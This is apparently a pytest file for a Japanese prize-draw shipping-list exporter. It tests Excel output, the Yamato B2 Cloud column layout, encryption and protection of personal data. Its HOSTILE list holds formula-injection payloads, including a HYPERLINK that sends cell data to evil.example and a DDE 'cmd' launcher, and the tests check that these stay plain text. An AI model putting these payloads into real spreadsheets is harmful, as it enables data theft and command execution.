"""The shipping list: text in every cell whatever was typed, one password, no file on disk, B2クラウド's columns."""

import io
import re
import sys
import zipfile
from collections.abc import Iterator
from datetime import date
from typing import Any, Literal

import msoffcrypto
import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from msoffcrypto.exceptions import InvalidKeyError

from prizedraw.errors import Broken
from prizedraw.fulfilment import b2cloud
from prizedraw.fulfilment.destination import Destination
from prizedraw.fulfilment.shipping_list import CHANGED, DOUBTS, ListTable, Parcel, locked, new_password, table, workbook
from prizedraw.records.verdicts import Doubt
from prizedraw.typed.crockford import ALPHABET
from support.shipping_lists import PASSWORD, cells, opened, texts

DAY = date(2026, 3, 12)
PRIZE = "B賞 ピンバッジ"
PLAIN = ("済", "管理番号", "当選コード", "賞品", "氏名", "郵便番号", "住所", "電話番号")
NAME, ADDRESS = PLAIN.index("氏名"), PLAIN.index("住所")
NUMBER = "7KQ-M4T-9XJ"


def destination(**changes: str) -> Destination:
    return Destination(
        **{
            "code": "K7QM-4T9X-2HVD-8",
            "name": "山田 花子",
            "postal_code": "１６２－００４１",
            "address": "東京都新宿区早稲田鶴巻町１２３",
            "phone": "０９０－１２３４－５６７８",
            "postal_digits": "1620041",
            "phone_national": "090-1234-5678",
            "extension": "",
        }
        | changes
    )


def plain(*destinations: Destination) -> bytes:
    return workbook(table("plain", [Parcel(PRIZE, to, number=NUMBER) for to in destinations], DAY))


HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=1+1",
    "=cmd|'/C calc'!A0",
    '＝HYPERLINK("https://evil.example")',
    "+81901234567",
    "-1+1",
    "@SUM(A1)",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    "{=1+1}",
    "https://evil.example/",
    "mailto:hanako@example.jp",
    "internal:Sheet1!A1",
    "external:c:\\temp\\x.xlsx",
    "0120",
    "1e5",
    "2026-03-12",
    "TRUE",
    "#N/A",
    "_x0041_",
    "<b>&amp;]]></b>",
    "𠮷野家 髙﨑①㈱〜－",
    "葛\U000e0100飾区",
    "👩‍👩‍👧",
    "東京都新宿区\n早稲田\r\n鶴巻町",
    "  前後の空白　",
    "長" * 32_767,
]


class TestCells:
    @pytest.mark.parametrize("typed", HOSTILE, ids=lambda typed: ascii(typed[:20]))
    @pytest.mark.parametrize("field", ["name", "address"])
    def test_hold_what_was_typed_to_the_letter_as_text(self, field: str, typed: str) -> None:
        data = plain(destination(**{field: typed}))
        heading, row = cells(data)
        assert {cell.data_type for cell in heading + row} == {"s"}
        assert {cell.number_format for cell in row} == {"@"}
        assert {cell.hyperlink for cell in row} == {None}
        assert texts(data)[1][NAME if field == "name" else ADDRESS] == typed

    def test_the_sheet_holds_no_formula_and_no_link(self) -> None:
        data = plain(*(destination(name=typed, address=typed, phone=typed) for typed in HOSTILE))
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            sheet = archive.read("xl/worksheets/sheet1.xml").decode()
            names = archive.namelist()
        assert "<f" not in sheet.replace("<fonts", "").replace("<fitToPage", "")
        assert "hyperlink" not in sheet
        assert re.findall(r'<c r="[A-Z]+\d+"[^>]*?( t="s")?>', sheet) == [' t="s"'] * (len(PLAIN) * (1 + len(HOSTILE)))
        assert not [name for name in names if "externalLink" in name or "sheet1.xml.rels" in name]

    @given(typed=st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=50))
    def test_whatever_is_typed_comes_back(self, typed: str) -> None:
        assert texts(plain(destination(address=typed)))[1][ADDRESS] == typed

    @pytest.mark.parametrize("typed", ["\x00", "\x0b", "\x1f", "\ufffe", "\uffff"])
    def test_even_a_character_that_xml_forbids_makes_no_broken_file(self, typed: str) -> None:
        assert texts(plain(destination(name=f"山田{typed}花子")))[1][NAME] == f"山田{typed}花子"

    def test_a_text_that_no_cell_can_hold_is_not_cut_off_but_refused(self) -> None:
        assert texts(plain(destination(address="𠮷" * 16_383)))[1][ADDRESS] == "𠮷" * 16_383
        for typed in ("長" * 32_768, "𠮷" * 16_384):
            with pytest.raises(Broken) as caught:
                plain(destination(address=typed))
            assert caught.value.problem.code == "E-785"


class TestPlainList:
    def test_has_a_row_a_parcel_in_their_order_with_a_box_to_tick(self) -> None:
        first, second = destination(), destination(code="0000-0000-0000-0", name="𠮷田 髙﨑")
        assert texts(plain(first, second)) == [
            PLAIN,
            ("□", NUMBER, first.code, PRIZE, first.name, "162-0041", first.address, "090-1234-5678"),
            ("□", NUMBER, "0000-0000-0000-0", PRIZE, "𠮷田 髙﨑", "162-0041", first.address, "090-1234-5678"),
        ]

    @pytest.mark.parametrize("typed", ["1620041", "162-0041", "１６２－００４１", "〒162-0041"])
    def test_writes_postal_codes_in_one_way_however_they_were_typed(self, typed: str) -> None:
        assert texts(plain(destination(postal_code=typed)))[1][PLAIN.index("郵便番号")] == "162-0041"

    def test_writes_the_extension_beside_the_number(self) -> None:
        to = destination(phone_national="03-1234-5678", extension="12")
        assert texts(plain(to))[1][PLAIN.index("電話番号")] == "03-1234-5678 内線12"

    def test_can_be_printed_on_a4(self) -> None:
        book = openpyxl.load_workbook(io.BytesIO(plain(destination())))
        sheet = book["発送リスト"]
        assert (sheet.freeze_panes, sheet.print_title_rows, sheet.page_setup.orientation) == (
            "A2",
            "$1:$1",
            "landscape",
        )
        assert str(sheet.page_setup.paperSize) == sheet.PAPERSIZE_A4
        assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (
            None,
            0,
        )  # one page wide, however many high
        margins = sheet.page_margins
        assert (margins.left, margins.right, margins.top, margins.bottom) == (0.4, 0.4, 0.5, 0.6)
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert sheet.oddFooter.center.text == "&P / &N"

    def test_looks_like_a_list(self) -> None:
        """Headings stand out, cells are framed, and what is long is broken within its column."""
        sheet = openpyxl.load_workbook(io.BytesIO(plain(destination(), destination()))).worksheets[0]
        headings, *rows = sheet.iter_rows()
        assert {(cell.font.bold, cell.fill.fgColor.rgb) for cell in headings} == {(True, "FFE8E8E8")}
        assert {cell.font.bold for row in rows for cell in row} == {False}
        everything = [cell for row in (headings, *rows) for cell in row]
        assert {(cell.alignment.wrap_text, cell.border.left.style) for cell in everything} == {(True, "thin")}
        wide = {cell.value: sheet.column_dimensions[cell.column_letter].width for cell in headings}
        assert wide["済"] < 10 < wide["郵便番号"] < wide["氏名"] < wide["賞品"] < wide["住所"]

    def test_rows_are_high_enough_to_show_a_long_address(self) -> None:
        addresses = ["東京都新宿区１－１", "東京都新宿区" * 10, "東京都\n新宿区\n\n１－１", "長" * 20_000]
        typed = [destination(address=address, postal_code="162-0041", phone="090-1234-5678") for address in addresses]
        sheet = openpyxl.load_workbook(io.BytesIO(plain(*typed))).worksheets[0]
        assert [sheet.row_dimensions[number].height for number in range(1, 6)] == [18.75, 18.75, 56.25, 75, 408.75]

    def test_doubts_stand_beside_their_row_on_the_first_sheet_and_in_a_list_of_their_own(self) -> None:
        odd = destination(name="?田 花子", doubts="letters_lost postal_code_elsewhere")
        made = table("plain", [Parcel(PRIZE, destination()), Parcel(PRIZE, odd)], DAY)
        said = [DOUBTS[Doubt.POSTAL_CODE_ELSEWHERE], DOUBTS[Doubt.LETTERS_LOST]]
        assert made.headings == (*PLAIN, "確かめること")
        assert [row[-1] for row in made.rows] == ["", "\n".join(said)]
        assert [(number, why) for number, _, why in made.notes] == [("3", one) for one in said]

    def test_nothing_of_it_is_doubtful(self) -> None:
        assert table("plain", [Parcel(PRIZE, destination(address="長" * 300))], DAY).unfit == ()


class TestB2Cloud:
    """Headings and lengths: https://bmypage.kuronekoyamato.co.jp/bmypage/pdf/new_exchange1.pdf."""

    def row(self, prize: str = PRIZE, **changes: str) -> dict[str, str]:
        made = table("yamato_b2", [Parcel(prize, destination(**changes))], DAY)
        assert made.headings == b2cloud.HEADINGS
        return {name: cell for name, cell in zip(made.headings, made.rows[0], strict=True) if cell}

    def test_has_the_97_columns_of_the_basic_layout(self) -> None:
        assert len(b2cloud.HEADINGS) == 97
        places = {2: "送り状種類", 5: "出荷予定日", 9: "お届け先電話番号", 11: "お届け先郵便番号", 12: "お届け先住所"}
        places |= {16: "お届け先名", 25: "ご依頼主名", 28: "品名1", 33: "記事", 40: "ご請求先顧客コード"}
        places |= {42: "運賃管理番号", 74: "複数口くくりキー", 95: "投函完了メール（ご依頼主宛）メールメッセージ"}
        assert {number: b2cloud.HEADINGS[number - 1] for number in places} == places

    def test_shows_what_is_filled_in_and_keeps_the_empty_columns_narrow(self) -> None:
        made = table("yamato_b2", [Parcel(PRIZE, destination())], DAY)
        wide = dict(zip(made.headings, made.widths, strict=True))
        filled = {wide[name] for name in self.row()}
        assert min(filled) > max(wide[name] for name in made.headings if name not in b2cloud.FILLED)

    def test_fills_what_a_label_needs(self) -> None:
        assert self.row() == {
            "お客様管理番号": "K7QM4T9X2HVD8",
            "送り状種類": "0",
            "出荷予定日": "2026/03/12",
            "お届け先電話番号": "090-1234-5678",
            "お届け先郵便番号": "162-0041",
            "お届け先住所": "東京都新宿区早稲田鶴巻町１２３",
            "お届け先名": "山田 花子",
            "品名1": PRIZE,
        }

    def test_puts_an_extension_into_the_remarks(self) -> None:
        assert self.row(extension="123")["記事"] == "内線123"

    @pytest.mark.parametrize(
        ("typed", "street", "building"),
        [
            ("東京都新宿区１－１", "東京都新宿区１－１", ""),
            ("東京都新宿区１－１ ○○マンション１０１", "東京都新宿区１－１ ○○マンション１０１", ""),
            ("東京都新宿区\n早稲田鶴巻町１", "東京都新宿区 早稲田鶴巻町１", ""),
            ("あ" * 32, "あ" * 32, ""),
            ("あ" * 30 + "　" + "い" * 16, "あ" * 30, "い" * 16),
            ("あ" * 20 + "\r\n" + "い" * 10 + " " + "う" * 16, "あ" * 20 + " " + "い" * 10, "う" * 16),
            ("あ" * 20 + " 1-2-3 " + "い" * 12, "あ" * 20 + " 1-2-3", "い" * 12),
            ("あ" * 20 + " 1-2-3 " + "い" * 12 + " 101", "あ" * 20 + " 1-2-3", "い" * 12 + " 101"),
        ],
    )
    def test_splits_a_long_address_only_where_it_was_parted(self, typed: str, street: str, building: str) -> None:
        row = self.row(address=typed)
        assert (row["お届け先住所"], row.get("お届け先住所（アパートマンション名）", "")) == (street, building)
        assert b2cloud.faults(b2cloud.row(b2cloud.Slip(PRIZE, DAY, destination(address=typed)))) == ()

    @given(typed=st.text("あいう１２ab-12 　\n", min_size=1, max_size=120))
    def test_loses_nothing_of_an_address(self, typed: str) -> None:
        street, building = b2cloud.split_address(typed)
        assert f"{street} {building}".split() == typed.split()

    @pytest.mark.parametrize(
        "changes",
        [
            {"address": "あ" * 33},
            {"address": "あ" * 30 + " " + "い" * 17},
            {"name": "あ" * 17},
            {"name": "𠮷田"},
            {"address": "葛\U000e0100飾区"},
        ],
        ids=["long", "long building", "long name", "not in CP932", "variation selector"],
    )
    def test_counts_the_rows_that_must_be_mended_and_cuts_nothing_off(self, changes: dict[str, str]) -> None:
        made = table("yamato_b2", [Parcel(PRIZE, destination(**changes)), Parcel(PRIZE, destination())], DAY)
        assert made.unfit == (2,)
        said = "".join(made.rows[0])
        assert all("".join(value.split()) in said.replace(" ", "") for value in changes.values())

    def test_what_is_as_long_as_may_be_fits(self) -> None:
        full = destination(name="あ" * 16, address="あ" * 32 + " " + "い" * 16, extension="1" * 40)
        assert b2cloud.faults(b2cloud.row(b2cloud.Slip("あ" * 25, DAY, full))) == ()

    @pytest.mark.parametrize(
        ("heading", "most"),
        {
            "お客様管理番号": 50,
            "送り状種類": 1,
            "出荷予定日": 10,
            "お届け先電話番号": 15,
            "お届け先郵便番号": 8,
            "お届け先住所": 64,
            "お届け先住所（アパートマンション名）": 32,
            "お届け先名": 32,
            "品名1": 50,
            "記事": 44,
        }.items(),
    )
    def test_what_is_longer_than_the_layout_takes_is_told(self, heading: str, most: int) -> None:
        """The lengths are those of Yamato's own layout, full-width characters counted twice."""
        for over, said in ((0, ()), (1, (f"「{heading}」が、半角で数えて1文字長すぎます",))):
            typed = {heading: "1" * (most + over)}
            assert b2cloud.faults(tuple(typed.get(one, "") for one in b2cloud.HEADINGS)) == said

    def test_a_prize_with_too_long_a_name_is_told(self) -> None:
        slip = b2cloud.Slip("あ" * 25 + "1", DAY, destination())
        assert b2cloud.faults(b2cloud.row(slip)) == ("「品名1」が、半角で数えて1文字長すぎます",)

    @pytest.mark.parametrize(
        ("changes", "said"),
        [
            ({"extension": "1" * 41}, "「記事」が、半角で数えて1文字長すぎます"),
            ({"address": "あ" * 33}, "「お届け先住所」が、半角で数えて2文字長すぎます"),
            ({"address": "あ" * 32 + "1"}, "「お届け先住所」が、半角で数えて1文字長すぎます"),
            ({"name": "あ" * 17}, "「お届け先名」が、半角で数えて2文字長すぎます"),
            ({"name": "𠮷田"}, "「お届け先名」に、印字できない文字（𠮷 U+20BB7）があります"),
            ({"name": "\ue000田"}, "「お届け先名」に、印字できない文字（U+E000）があります"),
            ({"address": "葛\U000e0100飾区"}, "「お届け先住所」に、印字できない文字（U+E0100）があります"),
            ({"phone_national": "090-l234-5678"}, "「お届け先電話番号」に、数字とハイフンでない文字があります"),
            ({"phone_national": "+1 650-253-0000"}, "「お届け先電話番号」に、数字とハイフンでない文字があります"),
        ],
    )
    def test_the_check_names_the_row_and_says_why(self, changes: dict[str, str], said: str) -> None:
        made = table("yamato_b2", [Parcel(PRIZE, destination()), Parcel(PRIZE, destination(**changes))], DAY)
        assert made.unfit == (3,)
        assert [(number, why) for number, _, why in made.notes] == [
            ("3", f"B2クラウドに取り込む前に直してください：{said}。")
        ]

    def test_a_doubtful_number_goes_on_the_label_as_typed_and_its_row_is_named(self) -> None:
        typed = destination(phone="03-1234-56789", phone_national="03-1234-56789", doubts="phone_not_in_use")
        made = table("yamato_b2", [Parcel(PRIZE, typed)], DAY)
        assert "03-1234-56789" in made.rows[0]
        assert made.unfit == ()
        assert [(number, why) for number, _, why in made.notes] == [("2", DOUBTS[Doubt.PHONE_NOT_IN_USE])]

    def test_characters_of_windows_are_no_doubt(self) -> None:
        made = table("yamato_b2", [Parcel(PRIZE, destination(name="髙﨑①㈱～－"))], DAY)
        assert made.unfit == ()

    def test_a_formula_stays_text_here_too(self) -> None:
        data = workbook(table("yamato_b2", [Parcel(PRIZE, destination(name="=1+1"))], DAY))
        assert {cell.data_type for row in cells(data) for cell in row if cell.value is not None} == {"s"}


@pytest.fixture(scope="module")
def data() -> bytes:
    return plain(destination())


class TestLock:
    def test_opens_with_the_password_and_holds_the_list(self, data: bytes) -> None:
        assert texts(opened(locked(data, PASSWORD)).getvalue()) == texts(data)

    @pytest.mark.parametrize("wrong", [PASSWORD.lower(), PASSWORD[:-1], PASSWORD.replace("-", ""), "password", " "])
    def test_a_wrong_password_fails(self, wrong: str, data: bytes) -> None:
        with pytest.raises(InvalidKeyError):
            opened(locked(data, PASSWORD), wrong)

    def test_is_agile_encryption_with_aes_256_and_sha_512(self, data: bytes) -> None:
        file: Any = msoffcrypto.OfficeFile(io.BytesIO(locked(data, PASSWORD)))
        assert (file.format, file.type) == ("ooxml", "agile")
        info = file.info
        assert (info["passwordKeyBits"], info["passwordHashAlgorithm"]) == (256, "SHA512")
        assert info["spinValue"] >= 100_000

    def test_shows_nothing_of_the_list(self, data: bytes) -> None:
        sealed = locked(data, PASSWORD)
        for word in ("山田", "早稲田", "090-1234-5678", "sharedStrings", PASSWORD):
            assert word.encode() not in sealed
            assert word.encode("utf-16-le") not in sealed

    def test_differs_each_time(self, data: bytes) -> None:
        assert locked(data, PASSWORD) != locked(data, PASSWORD)

    def test_passwords_are_long_readable_and_never_the_same(self) -> None:
        made = {new_password() for _ in range(200)}
        assert len(made) == 200
        assert all(re.fullmatch(rf"(?:[{ALPHABET}]{{4}}-){{5}}[{ALPHABET}]{{4}}", password) for password in made)
        assert len(set("".join(made)) - {"-"}) == 32


# Nothing on disk. An audit hook cannot be taken away again, so that it is switched off.

_written: list[str] | None = None


def _watch(event: str, arguments: tuple[Any, ...]) -> None:
    if _written is None:
        return
    if event.startswith("tempfile.") or (event == "open" and _for_writing(arguments)):
        _written.append(f"{event} {arguments[0]}")


def _for_writing(arguments: tuple[Any, ...]) -> bool:
    _, mode, flags = arguments
    return bool(set(mode or "") & set("wax+")) or bool((flags or 0) & 3)


sys.addaudithook(_watch)


@pytest.fixture
def written() -> Iterator[list[str]]:
    global _written  # noqa: PLW0603
    _written = []
    try:
        yield _written
    finally:
        _written = None


def test_no_file_is_written_on_the_way(written: list[str]) -> None:
    parcels = [Parcel(PRIZE, destination(name=f"山田 {number}")) for number in range(3_000)]
    locked(workbook(table("plain", parcels, DAY)), PASSWORD)
    assert written == []


def test_the_watch_sees_files(written: list[str], tmp_path: Any) -> None:
    import tempfile  # noqa: PLC0415

    (tmp_path / "a").write_bytes(b"1")
    with tempfile.TemporaryFile():
        pass
    assert any(entry.startswith("tempfile.") for entry in written) or len(written) > 1
    assert any(entry.startswith("open") for entry in written)


def test_personal_data_is_not_shown() -> None:
    to = destination(extension="8341")
    doubtful = table("plain", [Parcel(PRIZE, to, changed=True)], DAY)
    assert doubtful.notes
    shown = repr(Parcel(PRIZE, to)) + repr(doubtful)
    shown += repr(b2cloud.Slip(PRIZE, DAY, to))
    for word in ("山田", "早稲田", "1620041", "090", "K7QM", "8341"):
        assert word not in shown


def test_a_table_without_rows_is_a_file_with_headings() -> None:
    assert texts(workbook(ListTable(("a", "b"), (), (5, 5)))) == [("a", "b")]


@pytest.mark.parametrize("style", ["plain", "yamato_b2"])
def test_a_changed_address_is_named_by_row_on_a_sheet_of_its_own(style: Literal["plain", "yamato_b2"]) -> None:
    parcels = [Parcel(PRIZE, destination(code=f"code {n}"), changed=n == 1) for n in range(3)]
    first, second = openpyxl.load_workbook(io.BytesIO(workbook(table(style, parcels, DAY)))).worksheets
    assert (first.title, second.title) == ("発送リスト", "確認")
    assert first.max_row == 4
    assert [[cell.value for cell in row] for row in second.iter_rows()] == [
        ["行", "当選コード", "確かめること"],
        ["3", "code 1", CHANGED],
    ]
    assert {cell.data_type for row in second.iter_rows() for cell in row} == {"s"}
